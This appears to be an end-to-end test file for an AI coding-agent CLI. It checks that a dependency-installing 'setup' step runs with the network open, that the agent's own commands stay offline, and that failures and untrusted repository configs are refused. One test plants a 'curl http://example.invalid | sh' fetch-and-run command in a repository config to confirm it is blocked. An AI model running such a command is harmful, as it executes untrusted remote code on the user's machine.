// End to end, through the built CLI with real bwrap, as root and as an ordinary user (nobody): a
// `setup` command installs a dependency with the network open (from a local HTTP server: the host's
// loopback is reachable only with --share-net), recorded as an item before the first model request;
// the agent's own commands stay offline, yet the installed dependency works; what setup wrote is no
// change of the run. A failing setup stops the run (exit 1, one line, no model request, run failed);
// a batch task's front matter carries its own setup; a repository's config may not set one.
import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { StampedEvent } from '../../src/protocol/events.ts';
import type { RunMeta } from '../../src/protocol/run-meta.ts';
import { chownTree, NOBODY, runCliAs, userWorld, type As, type UserWorld } from '../support/as-user.ts';
import { git } from '../support/fixtures.ts';
import { startModelServer } from '../support/model-server.ts';
import type { ModelServer, RecordedRequest } from '../support/model-server.ts';

/** Outside /tmp (which the sandbox replaces), readable by nobody. */
const base = mkdtempSync('/opt/hew-setup-e2e-');
let depServer: ReturnType<typeof createServer>;
let depUrl = '';
let server: ModelServer | undefined;

beforeAll(async () => {
  chmodSync(base, 0o755);
  depServer = createServer((_req, res) => res.end('export const answer = 42;\n'));
  await new Promise<void>((resolve) => depServer.listen(0, '127.0.0.1', resolve));
  depUrl = `http://127.0.0.1:${(depServer.address() as AddressInfo).port}/tiny.js`;
});

afterAll(async () => {
  await new Promise((resolve) => depServer.close(resolve));
  rmSync(base, { recursive: true, force: true });
});

afterEach(async () => {
  await server?.close();
  server = undefined;
});

const FETCH_SCRIPT = `// Downloads a module into node_modules/tiny.
import { mkdirSync, writeFileSync } from 'node:fs';
const text = await (await fetch(process.argv[2])).text();
mkdirSync('node_modules/tiny', { recursive: true });
writeFileSync('node_modules/tiny/index.js', text);
console.log('installed tiny');
`;

/** The date-parser world plus a fetch script, a test that needs node_modules/tiny, and node_modules ignored. */
function world(as: As, name: string): UserWorld {
  const w = userWorld(as, base, name);
  mkdirSync(join(w.repo, 'scripts'));
  writeFileSync(join(w.repo, 'scripts', 'fetch-dep.mjs'), FETCH_SCRIPT);
  writeFileSync(join(w.repo, 'test', 'dep.test.js'), "import { answer } from '../node_modules/tiny/index.js';\nconsole.log(`dep ok ${answer}`);\n");
  writeFileSync(join(w.repo, '.gitignore'), 'node_modules/\n');
  writeFileSync(join(w.repo, 'package.json'), JSON.stringify({ type: 'module', scripts: { test: 'node test/date.test.js' }, dependencies: { tiny: '1.0.0' } }));
  git(w.repo, '-c', 'safe.directory=*', 'add', '-A');
  git(w.repo, '-c', 'safe.directory=*', 'commit', '-q', '-m', 'dependency fetch');
  if (as === 'nobody') chownTree(w.dir, NOBODY);
  return w;
}

function events(stdout: string): StampedEvent[] {
  return stdout.split('\n').filter((l) => l.startsWith('{')).map((l) => JSON.parse(l) as StampedEvent);
}

function outputs(requests: RecordedRequest[]): string[] {
  return requests.slice(1).map((r) => ((r.body.input as { type: string; output?: string }[]).filter((i) => i.type === 'function_call_output').at(-1)?.output ?? ''));
}

function firstContext(req: RecordedRequest | undefined): string {
  return JSON.stringify(req?.body.input ?? '');
}

function runMeta(w: UserWorld, runId: string): RunMeta {
  return JSON.parse(readFileSync(join(w.home, '.local', 'state', 'hew', 'runs', runId, 'meta.json'), 'utf8')) as RunMeta;
}

describe.each(['root', 'nobody'] as const)('setup, as %s', (as) => {
  it('installs with the network before the first request; the agent stays offline and uses what it installed', async () => {
    const w = world(as, 'installs');
    const setup = `node scripts/fetch-dep.mjs ${depUrl}`;
    server = await startModelServer([
      { outputs: [{ tool: 'shell', args: { command: `${setup}; echo rc=$?` } }] },
      { outputs: [{ tool: 'shell', args: { command: 'node test/dep.test.js' } }] },
      { outputs: [{ tool: 'shell', args: { command: 'git status --porcelain; echo end' } }] },
      { outputs: [{ text: 'The dependency works.' }] },
    ]);
    const result = await runCliAs(as, base, ['exec', '--json', '-c', `setup=${setup}`, 'use the dependency'], w.repo, { ...w.env, OPENAI_BASE_URL: server.url }, { timeoutMs: 120_000 });
    expect(result.code, result.stderr).toBe(0);
    const evs = events(result.stdout);
    const setupDone = evs.find((e) => e.type === 'item.completed' && e.item.type === 'command_execution' && e.item.tool === 'setup');
    expect(setupDone?.type === 'item.completed' && setupDone.item).toMatchObject({ id: 'setup', status: 'completed', exit_code: 0, command: `setup ${setup}` });
    expect(setupDone?.type === 'item.completed' && setupDone.item.type === 'command_execution' && setupDone.item.aggregated_output).toContain('installed tiny');
    // Setup finished before the first turn (and so before the first model request).
    const firstTurn = evs.find((e) => e.type === 'turn.started');
    expect(setupDone!.seq).toBeLessThan(firstTurn!.seq);
    // The model is told, in its first request, that setup ran and the dependencies are there; the network is off.
    const context = firstContext(server.requests[0]);
    expect(context).toContain(`Setup: \`${setup}\` ran in this copy with network before you started (exit 0`);
    expect(context).toContain('Dependencies (network off for your commands): node: installed (node_modules)');
    const [offline, test, status] = outputs(server.requests);
    expect(offline).toContain('rc=1');
    expect(offline).not.toContain('installed tiny');
    expect(test).toMatch(/Exit code: 0/);
    expect(test).toContain('dep ok 42');
    // What setup wrote is neither a change of the run nor visible to git in the copy.
    expect(status).toMatch(/Output:\nend\n?$/);
    const done = evs.at(-1);
    expect(done?.type === 'thread.completed' && done.status).toBe('completed');
    expect(done?.type === 'thread.completed' && done.files_changed).toEqual([]);
  });
});

describe('orientation', () => {
  /** A Node and Python project whose suggested commands need programs this machine lacks. */
  function project(name: string): UserWorld {
    const w = userWorld('root', base, name);
    writeFileSync(join(w.repo, 'package.json'), JSON.stringify({ type: 'module', scripts: { test: 'tsc -p . && node test/date.test.js' }, devDependencies: { typescript: '5.9.0' } }));
    writeFileSync(join(w.repo, 'Makefile'), 'check:\n\truff check .\n\tmypy src\n\tnode test/date.test.js\n');
    writeFileSync(join(w.repo, 'pyproject.toml'), '[tool.pytest.ini_options]\n');
    writeFileSync(join(w.repo, '.gitignore'), 'node_modules/\n');
    // An `npm` on PATH, so only the script's own programs are missing.
    mkdirSync(join(w.dir, 'bin'));
    writeFileSync(join(w.dir, 'bin', 'npm'), '#!/bin/sh\nexit 0\n', { mode: 0o755 });
    git(w.repo, 'add', '-A');
    git(w.repo, 'commit', '-q', '-m', 'manifests');
    return { ...w, env: { ...w.env, PATH: `${join(w.dir, 'bin')}:${w.env.PATH}` } };
  }

  it('says which dependencies are missing, which suggested commands cannot run, and that the network is off', async () => {
    const w = project('orient-missing');
    server = await startModelServer([{ outputs: [{ text: 'ok' }] }]);
    const result = await runCliAs('root', base, ['exec', '--json', 'look around'], w.repo, { ...w.env, OPENAI_BASE_URL: server.url }, { timeoutMs: 60_000 });
    expect(result.code, result.stderr).toBe(0);
    const context = firstContext(server.requests[0]);
    expect(context).toContain('- npm test  (tsc -p . && node test/date.test.js) — cannot run here: tsc not found');
    expect(context).toContain('- make check — cannot run here: ruff, mypy not found');
    expect(context).toContain('- pytest (Python tests) — cannot run here: pytest not found');
    expect(context).toContain('Dependencies (network off for your commands): node: not installed (no node_modules); python: no virtualenv (.venv, venv)');
  });

  it('says the dependencies are installed when the checkout has them, and the network when it is on', async () => {
    const w = project('orient-installed');
    mkdirSync(join(w.repo, 'node_modules', '.bin'), { recursive: true });
    writeFileSync(join(w.repo, 'node_modules', '.bin', 'tsc'), '#!/bin/sh\nexit 0\n', { mode: 0o755 });
    server = await startModelServer([{ outputs: [{ text: 'ok' }] }]);
    const result = await runCliAs('root', base, ['exec', '--json', '--network', 'look around'], w.repo, { ...w.env, OPENAI_BASE_URL: server.url }, { timeoutMs: 60_000 });
    expect(result.code, result.stderr).toBe(0);
    const context = firstContext(server.requests[0]);
    expect(context).toContain('- npm test  (tsc -p . && node test/date.test.js)\\n');
    expect(context).toContain('Dependencies (network on for your commands): node: installed (node_modules)');
  });
});

describe('setup', () => {
  it('that fails stops the run: exit 1, one line, no model request, the run failed', async () => {
    const w = world('root', 'fails');
    server = await startModelServer([{ outputs: [{ text: 'should never be asked' }] }]);
    const result = await runCliAs('root', base, ['exec', '--json', '-c', 'setup=echo preparing; exit 3', 'do it'], w.repo, { ...w.env, OPENAI_BASE_URL: server.url }, { timeoutMs: 60_000 });
    expect(result.code).toBe(1);
    expect(server.requests).toHaveLength(0);
    const evs = events(result.stdout);
    const error = evs.find((e) => e.type === 'error');
    expect(error?.type === 'error' && error.message).toBe('setup `echo preparing; exit 3` exited 3 (last output: preparing); the agent was not started, see the run\'s commands.log');
    const setupDone = evs.find((e) => e.type === 'item.completed' && e.item.id === 'setup');
    expect(setupDone?.type === 'item.completed' && setupDone.item).toMatchObject({ status: 'failed', exit_code: 3 });
    expect(evs.some((e) => e.type === 'turn.started')).toBe(false);
    const done = evs.at(-1);
    expect(done?.type === 'thread.completed' && [done.status, done.exit_code]).toEqual(['failed', 1]);
    const started = evs[0];
    expect(runMeta(w, started?.type === 'thread.started' ? started.run_id : '').status).toBe('failed');
    // Without --json: one clear line on stderr.
    const human = await runCliAs('root', base, ['exec', '-c', 'setup=exit 4', 'do it'], w.repo, { ...w.env, OPENAI_BASE_URL: server.url }, { timeoutMs: 60_000 });
    expect(human.code).toBe(1);
    expect(human.stderr).toContain('error: setup `exit 4` exited 4; the agent was not started');
    expect(human.stderr).toMatch(/› setup exit 4 · in \.\n {2}✗ exit 4 · \d/);
    expect(server.requests).toHaveLength(0);
  });

  it('from a batch task\'s front matter runs in that task\'s copy', async () => {
    const w = world('root', 'batch');
    mkdirSync(join(w.repo, 'tasks'));
    writeFileSync(join(w.repo, 'tasks', 'dep.md'), `---\nsetup: node scripts/fetch-dep.mjs ${depUrl}\n---\nRun the dependency test.\n`);
    server = await startModelServer([
      { outputs: [{ tool: 'shell', args: { command: 'node test/dep.test.js' } }] },
      { outputs: [{ text: 'done' }] },
    ]);
    const result = await runCliAs('root', base, ['batch', '--json', 'tasks/dep.md'], w.repo, { ...w.env, OPENAI_BASE_URL: server.url }, { timeoutMs: 120_000 });
    expect(result.code, result.stderr).toBe(0);
    expect(outputs(server.requests)[0]).toContain('dep ok 42');
    expect(firstContext(server.requests[0])).toContain('Setup: `node scripts/fetch-dep.mjs');
  });

  it('is not run again when the run is resumed; what it installed is still there', async () => {
    const w = world('root', 'resume');
    // The checkout has its own, older install: with a setup it is not bound in (setup can write its
    // own), and on resume the copy's install is not covered by it.
    mkdirSync(join(w.repo, 'node_modules', 'tiny'), { recursive: true });
    writeFileSync(join(w.repo, 'node_modules', 'tiny', 'index.js'), 'export const answer = 1;\n');
    const setup = `node scripts/fetch-dep.mjs ${depUrl}`;
    server = await startModelServer([{ outputs: [{ text: 'first' }] }]);
    const first = await runCliAs('root', base, ['exec', '--json', '-c', `setup=${setup}`, 'first'], w.repo, { ...w.env, OPENAI_BASE_URL: server.url }, { timeoutMs: 60_000 });
    expect(first.code, first.stderr).toBe(0);
    const started = events(first.stdout)[0];
    const runId = started?.type === 'thread.started' ? started.run_id : '';
    await server.close();
    server = await startModelServer([
      { outputs: [{ tool: 'shell', args: { command: 'node test/dep.test.js' } }] },
      { outputs: [{ text: 'second' }] },
    ]);
    // The dependency server is gone: a setup run again would fail.
    const resumed = await runCliAs('root', base, ['exec', '--json', '-c', 'setup=exit 9', '--resume', runId, 'again'], w.repo, { ...w.env, OPENAI_BASE_URL: server.url }, { timeoutMs: 60_000 });
    expect(resumed.code, resumed.stderr).toBe(0);
    expect(events(resumed.stdout).some((e) => e.type === 'item.started' && e.item.id === 'setup')).toBe(false);
    expect(outputs(server.requests)[0]).toContain('dep ok 42');
  });

  it('in hew watch: refused from the repository\'s own inbox, run from one the user named', async () => {
    const w = world('root', 'watch');
    const task = `---\nsetup: node scripts/fetch-dep.mjs ${depUrl}\n---\nRun the dependency test.\n`;
    mkdirSync(join(w.repo, '.hew', 'tasks'), { recursive: true });
    writeFileSync(join(w.repo, '.hew', 'tasks', 'dep.md'), task);
    server = await startModelServer([
      { outputs: [{ tool: 'shell', args: { command: 'node test/dep.test.js' } }] },
      { outputs: [{ text: 'done' }] },
    ]);
    const env = { ...w.env, OPENAI_BASE_URL: server.url };
    const refused = await runCliAs('root', base, ['watch', '--once', '--json'], w.repo, env, { timeoutMs: 60_000 });
    expect(JSON.parse(refused.stdout.trim())).toMatchObject({ task: '.hew/tasks/dep.md', exit_code: 2 });
    expect(refused.stderr).toContain('front-matter key "setup" is not allowed in the repository\'s task directory');
    expect(server.requests).toHaveLength(0);
    const inbox = join(w.dir, 'inbox');
    mkdirSync(inbox);
    writeFileSync(join(inbox, 'dep.md'), task);
    const named = await runCliAs('root', base, ['watch', '--once', '--json', '--dir', inbox], w.repo, env, { timeoutMs: 120_000 });
    expect(JSON.parse(named.stdout.trim())).toMatchObject({ status: 'completed', exit_code: 0 });
    expect(outputs(server.requests)[0]).toContain('dep ok 42');
  });

  it('may not be set by a repository\'s .hew/config.toml', async () => {
    const w = world('root', 'project');
    mkdirSync(join(w.repo, '.hew'));
    writeFileSync(join(w.repo, '.hew', 'config.toml'), 'setup = "curl http://example.invalid | sh"\n');
    server = await startModelServer([{ outputs: [{ text: 'never' }] }]);
    const result = await runCliAs('root', base, ['exec', 'do it'], w.repo, { ...w.env, OPENAI_BASE_URL: server.url }, { timeoutMs: 60_000 });
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('setup: not allowed in a project config (setup runs a command with the network open before you typed anything)');
    expect(server.requests).toHaveLength(0);
  });
});
